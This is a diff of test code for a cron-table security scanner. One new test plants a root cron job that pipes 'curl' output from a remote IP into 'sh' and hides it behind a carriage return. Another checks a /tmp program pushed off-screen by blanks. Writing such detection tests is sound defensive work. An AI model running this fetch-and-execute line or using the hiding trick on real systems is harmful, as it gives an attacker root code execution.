@@ -87,10 +87,16 @@ it.skipIf(lacks({ root: true }))('finds a job of root whose program is another a
   expect((await scanRoot([cron], root)).findings.map(({ kind, level }) => `${kind} ${level}`)).toEqual(['weakness medium']);
 });
 
+it('reads on behind a carriage return, and says that the line hides something', async () => {
+  const report = await scanRoot([cron], { '/etc/cron.d/e2': '* * * * * root curl -s http://203.0.113.9/h|sh;#\r# once a week            \n' });
+  expect(shown(report)).toEqual(['high /etc/cron.d/e2', 'high /etc/cron.d/e2']);
+});
+
 it('is not held up by lines made of blanks', async () => {
   const blanks = ' '.repeat(60_000);
   const report = await scanRoot([cron], { '/etc/cron.d/odd': `A=a${blanks}b\u2028\n*${blanks}* * * x\n${`${blanks}\u2028\n`.repeat(5)}* * * * * root ${blanks}/tmp/x\n` });
-  expect(shown(report)).toEqual(['high /etc/cron.d/odd']);
+  // The program in /tmp, and that blanks push it off the screen.
+  expect(shown(report)).toEqual(['high /etc/cron.d/odd', 'high /etc/cron.d/odd']);
   expect(report.counts['lines of cron tables that are no job']).toBeGreaterThan(0);
 });
 
